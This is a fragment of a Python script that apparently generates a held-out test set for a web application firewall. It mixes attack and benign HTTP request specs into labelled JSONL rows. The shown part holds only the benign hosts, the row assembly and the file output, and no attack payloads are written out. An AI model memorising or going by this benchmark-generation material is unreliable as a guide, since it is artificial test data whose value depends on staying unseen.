    ("benign_spreadsheet", gen_spreadsheet, 73),
    ("benign_chat", gen_chat, 73),
]
BENIGN_HOSTS = [
    "api.example.com",
    "shop.example.com",
    "app.example.org",
    "www.example.com",
    "cms.example.com",
    "portal.example.net",
    "support.example.com",
    "graph.example.com",
]


def benign_specs(r):
    out = []
    for cat, fn, n in BENIGN_KINDS:
        rows = fill(r, n, fn)
        for s in rows:
            if s.get("doc", 0) is None:
                del s["doc"]
            s["cat"] = cat
            s["label"] = "benign"
            s.setdefault("host", r.choice(BENIGN_HOSTS))
            s.setdefault("ua", r.choice(BENIGN_UAS))
            if s["pl"] == "xml":
                s.setdefault("accept", r.choice(ACCEPTS_XML))
            elif s["pl"] in ("path", "cookie", "header") and r.random() < 0.5:
                s.setdefault("accept", r.choice(ACCEPTS_HTML))
            else:
                s.setdefault("accept", r.choice(ACCEPTS_API))
            out.append(s)
    return out


# --------------------------------------------------------------------------
# assembly
# --------------------------------------------------------------------------

KEYS = [
    "id",
    "label",
    "category",
    "method",
    "path",
    "query",
    "headers",
    "body",
    "placement",
    "payload",
    "hard",
    "source",
]


def make_rows():
    r = R
    specs = attack_specs(r)
    for s in specs:
        if s.get("pad"):
            s["p"] = pad_text(r) + " " + s["p"]
    specs += benign_specs(r)
    rows = []
    for s in specs:
        method, path, query, headers, body = build(r, s)
        rows.append(
            {
                "id": None,
                "label": s["label"],
                "category": s["cat"],
                "method": method,
                "path": path,
                "query": query,
                "headers": headers,
                "body": body,
                "placement": s["pl"],
                "payload": s["p"],
                "hard": bool(s["hard"]),
                "source": SRC,
            }
        )
    r.shuffle(rows)
    counters = {}
    for row in rows:
        n = counters.get(row["category"], 0) + 1
        counters[row["category"]] = n
        row["id"] = "%s-%s-%s-%04d" % (SRC, "a" if row["label"] == "attack" else "b", row["category"], n)
    return [{k: row[k] for k in KEYS} for row in rows]


def main():
    rows = make_rows()
    out = os.path.join(os.path.dirname(os.path.abspath(__file__)), "waf_unseen_thirteenth.jsonl")
    with open(out, "w", encoding="utf-8", newline="\n") as f:
        for row in rows:
            f.write(json.dumps(row, ensure_ascii=False) + "\n")
    print("wrote %d rows to %s" % (len(rows), out))


if __name__ == "__main__":
    main()
